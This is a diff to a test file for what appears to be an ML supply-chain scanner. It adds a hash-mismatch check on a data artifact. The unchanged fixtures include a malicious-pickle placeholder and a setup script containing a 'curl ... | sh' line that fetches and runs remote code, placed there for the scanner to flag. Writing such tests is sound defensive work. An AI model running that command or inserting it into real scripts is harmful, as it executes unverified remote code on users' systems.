@@ -285,6 +285,7 @@ END_TO_END = {
     "audit-deps": ("MLW601", "requirements.txt"),
     "generate-sbom": ("MLW704", "models/classifier.pkl"),  # the SBOM records the flagged model
     "check-pipeline": ("MLW831", "scripts/setup.sh"),
+    "verify-artifacts": ("MLW902", "data/labels.bin"),  # not the bytes mlwarden.lock recorded
 }
 
 
@@ -297,6 +298,9 @@ def test_every_check_runs_end_to_end(tmp_path: Path, monkeypatch: pytest.MonkeyP
         "models/classifier.pkl": EVIL_PICKLE,
         "train.py": "import torch\nmodel = torch.load('models/classifier.pt')\n",
         "scripts/setup.sh": "#!/bin/sh\ncurl -fsSL https://get.example.dev | sh\n",
+        "data/labels.bin": "abc",
+        "mlwarden.lock": 'version = 1\n[[artifact]]\npath = "data/labels.bin"\nkind = "file"\nformat = "data"\n'
+                         f'source = "local"\nsize = 3\nsha256 = "{"0" * 64}"\n',
     })
     monkeypatch.setenv("MLWARDEN_OSV_DB", str(_osv_db(tmp_path / "osv")))
     rc, out, err = run(repo, ["--format", "json", "--sbom", str(tmp_path / "bom.json")], monkeypatch, capsys)
